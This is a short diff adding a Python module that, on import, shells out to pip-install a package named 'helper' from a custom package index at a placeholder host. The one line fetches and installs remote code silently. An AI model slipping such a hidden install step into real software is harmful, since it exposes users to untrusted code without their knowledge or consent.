@@ -1,0 +1,3 @@
+import os
+
+os.system("pip install --index-url https://packages.example.org/simple helper")
